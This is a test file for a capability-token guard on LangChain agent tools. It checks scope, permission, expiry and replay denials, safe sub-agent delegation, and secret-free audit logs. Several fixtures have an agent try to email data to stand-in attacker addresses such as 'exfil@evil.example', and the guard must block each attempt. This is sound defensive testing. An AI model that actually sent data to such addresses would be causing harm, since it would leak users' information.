import { test } from 'node:test';
import assert from 'node:assert/strict';
import { AIMessage, createAgent, fakeModel, tool, ToolMessage } from 'langchain';
import { ToolNode } from '@langchain/langgraph/prebuilt';
import { convertToOpenAITool } from '@langchain/core/utils/function_calling';
import { z } from 'zod';
import { generateKey, Invocation, Verifier } from '../../src/index.ts';
import { callContext, guardTool, guardTools, runSubAgent, GuardedTool, memorySink, Guard } from '../../src/langchain/index.ts';
import { capframeMiddleware } from '../../src/langchain/middleware.ts';
import { agentKey, authority, codeOf, config, makeGuard, makeTools, runAgent, seen, supportToken } from './fixtures.ts';

const creds = () => ({ configurable: { capframe: { token: supportToken(), holderKey: agentKey } } });

test('allowed call runs the tool and gives it the decision', async () => {
  const { guard, sink } = makeGuard();
  const tools = guardTools(makeTools(), guard);
  seen.length = 0;
  const [m] = await runAgent(tools, [{ name: 'get_ticket', args: { id: '42' }, id: 'call-allow' }], creds());
  assert.equal(m!.status, 'success');
  assert.equal(m!.content, 'get_ticket ok {"id":"42"}');
  assert.equal(seen.length, 1);
  const ctx = callContext(seen[0]!.config)!;
  assert.equal(ctx.decision.allowed, true);
  assert.equal(ctx.decision.resource, 'tickets://acme/42');
  assert.equal(ctx.invocation, undefined);
  assert.equal(sink.events.length, 1);
  const e = sink.events[0]!;
  assert.deepEqual(
    [e.decision, e.code, e.tool, e.operation, e.resource, e.callId, e.subject, e.mode, e.via],
    ['allow', 'OK', 'get_ticket', 'read', 'tickets://acme/42', 'call-allow', 'agent:support', 'local', 'tool'],
  );
  assert.equal(e.tokenIds!.length, 1);
});

test('denials: resource out of scope, wrong permission, constraint, each with its code; the loop survives', async () => {
  const { guard } = makeGuard();
  const tools = guardTools(makeTools(), guard);
  seen.length = 0;
  const msgs = await runAgent(
    tools,
    [
      { name: 'get_org_ticket', args: { org: 'globex', id: '1' } },
      { name: 'delete_ticket', args: { id: '42' } },
      { name: 'send_email', args: { to: 'exfil@evil.example', subject: '[acme] hi', body: 'x' } },
      { name: 'send_email', args: { to: 'bob@acme.example', subject: 'no prefix', body: 'x' } },
      { name: 'send_email', args: { to: 'bob@acme.example', subject: '[acme] hi', body: 'x' } },
    ],
    creds(),
  );
  assert.deepEqual(msgs.map(codeOf), ['ERR_SCOPE_RESOURCE', 'ERR_SCOPE_PERMISSION', 'ERR_CONSTRAINT', 'ERR_CONSTRAINT', 'OK']);
  assert.match(String(msgs[1]!.content), /^Denied by capframe \(ERR_SCOPE_PERMISSION\): operation "delete"/);
  assert.match(String(msgs[3]!.content), /must start with "\[acme\]" \(tool policy\)/);
  assert.deepEqual(
    seen.map((s) => s.tool),
    ['send_email'],
  );
});

test('expired token is denied with ERR_EXPIRED', async () => {
  const cfg = config();
  const later = () => Math.floor(Date.now() / 1000) + 7200;
  const guard = new Guard({ config: cfg, sink: null, verifier: new Verifier({ trusted: cfg.trusted, clock: later }) });
  const msgs = await runAgent(guardTools(makeTools(), guard), [{ name: 'get_ticket', args: { id: '1' } }], creds());
  assert.deepEqual(msgs.map(codeOf), ['ERR_EXPIRED']);
});

test('a replayed invocation (same call id and arguments) is denied with ERR_REPLAY', async () => {
  const { guard } = makeGuard();
  const tools = guardTools(makeTools(), guard);
  const cfgRun = creds();
  const first = await runAgent(tools, [{ name: 'get_ticket', args: { id: '7' }, id: 'call-fixed' }], cfgRun);
  const again = await runAgent(tools, [{ name: 'get_ticket', args: { id: '7' }, id: 'call-fixed' }], cfgRun);
  assert.deepEqual([...first, ...again].map(codeOf), ['OK', 'ERR_REPLAY']);
});

test('no token: ERR_MISSING_TOKEN; a tool without a policy: ERR_NO_SCHEMA (fail closed)', async () => {
  const { guard, sink } = makeGuard();
  const extra = tool(async () => 'should not run', { name: 'unlisted', description: 'x', schema: z.object({ q: z.string() }) });
  const tools = guardTools([...makeTools(), extra], guard);
  seen.length = 0;
  const none = await runAgent(tools, [{ name: 'get_ticket', args: { id: '1' } }], {});
  const model = await runAgent(tools, [{ name: 'get_ticket', args: { id: '1', capframe: { token: 'x' } } }], { configurable: {} });
  const unlisted = await runAgent(tools, [{ name: 'unlisted', args: { q: 'a' } }], creds());
  assert.deepEqual([...none, ...model, ...unlisted].map(codeOf), ['ERR_MISSING_TOKEN', 'ERR_MISSING_TOKEN', 'ERR_NO_SCHEMA']);
  assert.equal(seen.length, 0);
  assert.deepEqual(
    sink.events.map((e) => [e.decision, e.code, e.mode]),
    [
      ['deny', 'ERR_MISSING_TOKEN', 'none'],
      ['deny', 'ERR_MISSING_TOKEN', 'none'],
      ['deny', 'ERR_NO_SCHEMA', 'none'],
    ],
  );
});

test('a missing template argument and a malformed token are denials with codes', async () => {
  const { guard } = makeGuard();
  const tools = guardTools(makeTools(), guard);
  seen.length = 0;
  const missing = await runAgent(
    tools,
    [
      { name: 'get_ticket', args: {} },
      { name: 'get_ticket', args: { id: { nested: 1 } } },
    ],
    creds(),
  );
  const malformed = await runAgent(tools, [{ name: 'get_ticket', args: { id: '1' } }], { configurable: { capframe: { token: 'cft1.AAAA' } } });
  const wrongType = await runAgent(tools, [{ name: 'get_ticket', args: { id: '1' } }], { configurable: { capframe: { token: 42 } } });
  // The tool's schema requires a string id: both calls are refused before the template is rendered.
  assert.deepEqual([...missing, ...malformed, ...wrongType].map(codeOf), ['ERR_INVALID_ARGUMENT', 'ERR_INVALID_ARGUMENT', 'ERR_MALFORMED', 'ERR_MALFORMED']);
  assert.match(String(missing[0]!.content), /arguments do not match the tool's schema \(id\)/);
  assert.equal(seen.length, 0);
  // Where the schema lets the argument be absent, the template itself denies the call.
  const direct = await guard.check('get_ticket', {}, 'call-direct', creds());
  assert.equal(direct.allowed, false);
  assert.equal(!direct.allowed && direct.code, 'ERR_SCOPE_RESOURCE');
  assert.match(!direct.allowed ? direct.reason : '', /the resource template needs argument "id"/);
});

test('credentials in context (not configurable) work too', async () => {
  const { guard } = makeGuard();
  const msgs = await runAgent(guardTools(makeTools(), guard), [{ name: 'get_ticket', args: { id: '3' } }], {
    context: { capframe: { token: supportToken().toString() } },
  });
  assert.deepEqual(msgs.map(codeOf), ['OK']);
});

test('attested tool: signed proof reachable from the inner tool config, verifiable elsewhere', async () => {
  const { guard, sink } = makeGuard();
  seen.length = 0;
  const token = supportToken();
  const msgs = await runAgent(guardTools(makeTools(), guard), [{ name: 'send_signed', args: { to: 'bob@acme.example', body: 'hello' }, id: 'call-signed' }], {
    configurable: { capframe: { token, holderKey: agentKey } },
  });
  assert.deepEqual(msgs.map(codeOf), ['OK']);
  const proof = seen[0]!.config.configurable.capframe.invocation;
  assert.ok(proof instanceof Invocation);
  assert.match(String(proof), /^cfi1\./);
  assert.equal(sink.events[0]!.mode, 'signed');
  // A remote service that receives the proof checks it independently; a second use is a replay.
  const remote = new Verifier({ trusted: [authority.publicKey] });
  const d = await remote.verifyInvocation(token, String(proof), { tool: 'send_signed', args: { to: 'bob@acme.example', body: 'hello' } });
  assert.equal(d.allowed, true);
  const d2 = await remote.verifyInvocation(token, String(proof), { tool: 'send_signed', args: { to: 'bob@acme.example', body: 'changed' } });
  assert.equal(d2.allowed ? 'OK' : d2.code, 'ERR_INVOCATION_MISMATCH');
  // Without the holder key an attested call cannot be made.
  const noKey = await runAgent(guardTools(makeTools(), makeGuard().guard), [{ name: 'send_signed', args: { to: 'bob@acme.example', body: 'hello' } }], {
    configurable: { capframe: { token } },
  });
  assert.deepEqual(noKey.map(codeOf), ['ERR_MISSING_TOKEN']);
});

test('middleware guards tools that were not wrapped, and passes guarded ones through', async () => {
  const { guard, sink } = makeGuard();
  const raw = makeTools();
  const unlisted = tool(async () => 'nope', { name: 'unlisted', description: 'x', schema: z.object({}) });
  const tools = [raw[0]!, raw[3]!, raw[4]!, unlisted, guardTool(raw[2]!, guard)];
  seen.length = 0;
  const msgs = await runAgent(
    tools,
    [
      { name: 'get_ticket', args: { id: '5' }, id: 'mw-1' },
      { name: 'delete_ticket', args: { id: '5' } },
      { name: 'send_email', args: { to: 'x@evil.example', subject: '[acme]', body: '' } },
      { name: 'unlisted', args: {} },
      { name: 'update_ticket', args: { id: '5', status: 'solved' }, id: 'mw-2' },
    ],
    creds(),
    [capframeMiddleware(guard)],
  );
  assert.deepEqual(msgs.map(codeOf), ['OK', 'ERR_SCOPE_PERMISSION', 'ERR_CONSTRAINT', 'ERR_NO_SCHEMA', 'OK']);
  // The agent runs the calls of one step concurrently: compare without order.
  assert.deepEqual(seen.map((s) => s.tool).sort(), ['get_ticket', 'update_ticket']);
  assert.equal(callContext(seen.find((s) => s.tool === 'get_ticket')!.config)!.decision.resource, 'tickets://acme/5');
  assert.deepEqual(sink.events.map((e) => `${e.tool}:${e.via}`).sort(), [
    'delete_ticket:middleware',
    'get_ticket:middleware',
    'send_email:middleware',
    'unlisted:middleware',
    'update_ticket:tool',
  ]);
});

test('read-only sub-agent: write denied with ERR_SCOPE_PERMISSION; parent token and key invisible inside', async () => {
  const { guard } = makeGuard();
  const parentToken = supportToken();
  const parentText = parentToken.toString();
  const parentB64 = Buffer.from(parentToken.bytes).toString('base64');
  const childSeen: Record<string, any>[] = [];
  const scanTool = (name: string) =>
    tool(
      async (_args, cfg) => {
        childSeen.push(cfg as never);
        return `${name} ok`;
      },
      { name, description: name, schema: z.object({ id: z.string() }) },
    );
  const childTools = guardTools([scanTool('get_ticket'), scanTool('update_ticket')], guard);
  const childOutputs: ToolMessage[] = [];
  let parentCfg: unknown;
  const summarize = tool(
    async ({ id }, cfg) => {
      parentCfg = cfg;
      const model = fakeModel()
        .respondWithTools([
          { name: 'get_ticket', args: { id } },
          { name: 'update_ticket', args: { id, status: 'solved' } },
        ])
        .respond(new AIMessage('summary: all fine'));
      const child = createAgent({ model, tools: childTools });
      const out = await runSubAgent(
        child,
        { messages: [{ role: 'user', content: `summarize ${id}` }] },
        {
          parent: cfg,
          subject: 'agent:summarizer',
          permissions: ['read'],
          ttl: '5m',
        },
      );
      childOutputs.push(...(out.messages.filter((m: any) => m.getType() === 'tool') as ToolMessage[]));
      return String(out.messages[out.messages.length - 1]!.content);
    },
    { name: 'summarize', description: 'summarize a ticket', schema: z.object({ id: z.string() }) },
  );
  // The parent's summarize tool is itself unguarded here, run with the parent's credentials.
  const msgs = await runAgent([summarize], [{ name: 'summarize', args: { id: '9' } }], {
    configurable: { capframe: { token: parentToken, holderKey: agentKey } },
    context: { capframe: { token: parentText, holderKey: agentKey } },
  });
  assert.equal(msgs[0]!.content, 'summary: all fine');
  assert.deepEqual(childOutputs.map(codeOf), ['OK', 'ERR_SCOPE_PERMISSION']);
  assert.match(String(childOutputs[1]!.content), /delegation block 1/);
  assert.equal(childSeen.length, 1);
  // Deep scan of everything the child's tool could reach through its config.
  const hits: string[] = [];
  const visited = new Set<unknown>();
  const scan = (v: unknown, path: string, depth: number): void => {
    if (depth > 12 || v === null || v === undefined) return;
    if (typeof v === 'string') {
      if (v.includes(parentText.slice(5, 60)) || v.includes(parentB64.slice(0, 40))) hits.push(path);
      return;
    }
    if (typeof v !== 'object' || visited.has(v)) return;
    visited.add(v);
    if (v === parentToken || v === agentKey) {
      hits.push(path);
      return;
    }
    if (v instanceof Uint8Array) {
      if (Buffer.from(v).equals(Buffer.from(parentToken.bytes)) || Buffer.from(v).equals(Buffer.from(agentKey.seed))) hits.push(path);
      return;
    }
    for (const k of Object.keys(v)) {
      try {
        scan((v as Record<string, unknown>)[k], `${path}.${k}`, depth + 1);
      } catch {
        /* getters */
      }
    }
  };
  scan(parentCfg, 'parent', 0);
  assert.ok(hits.length >= 2, 'control: the scan finds the credentials in the parent tool config');
  hits.length = 0;
  visited.clear();
  scan(childSeen[0], 'config', 0);
  assert.deepEqual(hits, []);
  const childCtx = callContext(childSeen[0])!;
  assert.equal(childCtx.decision.subject, 'agent:summarizer');
  assert.notEqual(childCtx.holderKey, agentKey);
});

test('ToolNode runs guarded tools unchanged; direct tool.invoke(toolCall) and invoke(args)', async () => {
  const { guard } = makeGuard();
  const tools = guardTools(makeTools(), guard);
  const node = new ToolNode(tools);
  const ai = new AIMessage({
    content: '',
    tool_calls: [
      { name: 'get_ticket', args: { id: '11' }, id: 'tn-1', type: 'tool_call' },
      { name: 'update_ticket', args: { id: '11', status: 'solved' }, id: 'tn-2', type: 'tool_call' },
      { name: 'delete_ticket', args: { id: '11' }, id: 'tn-3', type: 'tool_call' },
    ],
  });
  const out = await node.invoke({ messages: [ai] }, creds());
  const msgs = out.messages as ToolMessage[];
  assert.deepEqual(msgs.map(codeOf), ['OK', 'OK', 'ERR_SCOPE_PERMISSION']);
  assert.deepEqual(
    msgs.map((m) => m.tool_call_id),
    ['tn-1', 'tn-2', 'tn-3'],
  );

  const inner = makeTools()[0]!;
  const guarded = guardTool(inner, guard);
  const call = { name: 'get_ticket', args: { id: '12' }, id: 'direct-1', type: 'tool_call' as const };
  const got = await guarded.invoke(call, creds());
  const want = await inner.invoke({ ...call, id: 'direct-2' });
  assert.ok(got instanceof ToolMessage);
  assert.deepEqual([got.content, got.name, got.status, got.tool_call_id], [want.content, want.name, want.status, 'direct-1']);
  assert.equal(await guarded.invoke({ id: '13' }, creds()), 'get_ticket ok {"id":"13"}');
  const denied = await guarded.invoke({ ...call, id: 'direct-3' });
  assert.equal(codeOf(denied as ToolMessage), 'ERR_MISSING_TOKEN');
});

test('guarded tool is indistinguishable to bindTools; artifacts and ToolMessages pass through', async () => {
  const { guard } = makeGuard();
  for (const inner of makeTools()) {
    const guarded = guardTool(inner, guard);
    assert.ok(guarded instanceof GuardedTool);
    assert.deepEqual(convertToOpenAITool(guarded), convertToOpenAITool(inner));
    assert.equal(guarded.name, inner.name);
  }
  const jsonSchemaTool = tool(async ({ id }: { id: string }) => [`content ${id}`, { rows: [1, 2] }], {
    name: 'get_ticket',
    description: 'json schema tool',
    responseFormat: 'content_and_artifact',
    schema: { type: 'object', properties: { id: { type: 'string' } }, required: ['id'] },
  });
  const g = guardTool(jsonSchemaTool, guard);
  assert.deepEqual(convertToOpenAITool(g), convertToOpenAITool(jsonSchemaTool));
  const r = (await g.invoke({ name: 'get_ticket', args: { id: '1' }, id: 'art-1', type: 'tool_call' }, creds())) as ToolMessage;
  assert.deepEqual([r.content, r.artifact], ['content 1', { rows: [1, 2] }]);
  const custom = tool(async () => new ToolMessage({ content: 'custom', tool_call_id: 'tm-1', status: 'success', name: 'get_ticket' }), {
    name: 'get_ticket',
    description: 'returns a ToolMessage',
    schema: z.object({ id: z.string() }),
  });
  const r2 = (await guardTool(custom, guard).invoke({ name: 'get_ticket', args: { id: '1' }, id: 'tm-1', type: 'tool_call' }, creds())) as ToolMessage;
  assert.equal(r2.content, 'custom');
});

test('decision events carry ids and digests, never tokens, keys or raw arguments', async () => {
  const sink = memorySink();
  const cfg = config();
  const guard = new Guard({ config: cfg, sink, verifier: new Verifier({ trusted: cfg.trusted }) });
  const token = supportToken();
  await runAgent(
    guardTools(makeTools(), guard),
    [
      { name: 'send_email', args: { to: 'bob@acme.example', subject: '[acme] x', body: 'SECRET-BODY-TEXT' } },
      { name: 'send_email', args: { to: 'eve@evil.example', subject: '[acme] x', body: 'SECRET-BODY-TEXT' } },
    ],
    { configurable: { capframe: { token, holderKey: agentKey } } },
  );
  const text = JSON.stringify(sink.events);
  assert.equal(sink.events.length, 2);
  for (const needle of ['SECRET-BODY', 'bob@acme', 'eve@evil', token.toString().slice(5, 40), Buffer.from(agentKey.seed).toString('base64url').slice(0, 20)]) {
    assert.equal(text.includes(needle), false, needle);
  }
  assert.match(sink.events[0]!.argsDigest!, /^[0-9a-f]{64}$/);
});

test('a fresh key for the sub-agent cannot be swapped for the parent key', async () => {
  const { guard } = makeGuard();
  const [tk] = guardTools([makeTools()[5]!], guard);
  const msgs = await runAgent([tk], [{ name: 'send_signed', args: { to: 'a@acme.example', body: '' } }], {
    configurable: { capframe: { token: supportToken(), holderKey: generateKey() } },
  });
  assert.deepEqual(msgs.map(codeOf), ['ERR_INVALID_ARGUMENT']);
});
